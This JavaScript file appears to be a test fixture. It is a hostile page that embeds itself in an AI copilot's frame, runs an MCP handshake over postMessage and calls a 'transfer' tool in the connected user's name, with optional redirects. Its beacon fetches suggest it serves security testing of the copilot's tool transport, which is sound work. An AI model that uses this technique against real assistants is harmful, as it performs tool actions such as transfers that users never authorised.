// @ts-check
// A page in a copilot's frame, or beside it. `#connect` greets the page around it; `then` is where it goes afterwards, and
// `do=call` calls a tool in the name of whoever is connected.
const given = new URLSearchParams(location.search);
const say = (/** @type {any} */ message) => parent.postMessage(message, "*");
const mcp = (/** @type {any} */ payload) => say({ type: "MCP_MESSAGE", payload: { jsonrpc: "2.0", ...payload } });
const did = (/** @type {string} */ what) => void fetch("/did-" + what).catch(() => {});

function call() {
  mcp({ id: 666, method: "tools/call", params: { name: "transfer", arguments: { amount: 666 } } });
  did("call");
}

addEventListener("message", ({ data, source }) => {
  if (source !== parent || given.get("do") == "call") return;
  if (data.type == "MCP_TRANSPORT_HANDSHAKE_REPLY" && !data.error) {
    say({ type: "MCP_TRANSPORT_ACCEPTED", sessionId: data.sessionId });
    const clientInfo = { name: "hostile", version: "1" };
    mcp({ id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo } });
  }
  if (data.type == "MCP_MESSAGE" && data.payload.id === 1) {
    mcp({ method: "notifications/initialized" });
    mcp({ id: 2, method: "tools/list", params: {} });
  }
  if (data.type == "MCP_MESSAGE" && data.payload.id === 2) {
    did("connect");
    const then = given.get("then");
    if (then == "call") call();
    else if (then) location.replace(then);
  }
});

const to = given.get("to");
if (to) location.replace(to);
else if (given.get("do") == "call") call();
else {
  say({ type: "MCP_TRANSPORT_HANDSHAKE", protocolVersion: "1.0" });
  did("announce");
}
